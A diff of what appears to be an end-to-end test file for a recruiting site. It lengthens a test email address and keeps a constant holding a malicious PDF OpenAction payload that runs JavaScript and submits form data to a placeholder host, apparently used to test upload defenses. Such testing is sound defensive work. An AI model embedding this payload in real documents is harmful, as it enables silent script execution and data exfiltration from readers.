@@ -8,7 +8,8 @@ import { discard, startServer, type RunningServer } from '../fixtures/server.ts'
 // One recruiter's visit, told in steps: what a step needs the one before it made.
 test.describe.configure({ mode: 'serial' });
 
-const ADA = 'ada@applicants.internal';
+/** As long as addresses may well be: nothing that names it is wider than a phone. */
+const ADA = 'ada.augusta.byron.countess.of.lovelace.analytical@applicants.internal';
 /** What a PDF might try: to run a script as it opens. */
 const SCRIPTED = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://applicant.example/"\\);)>>';
 
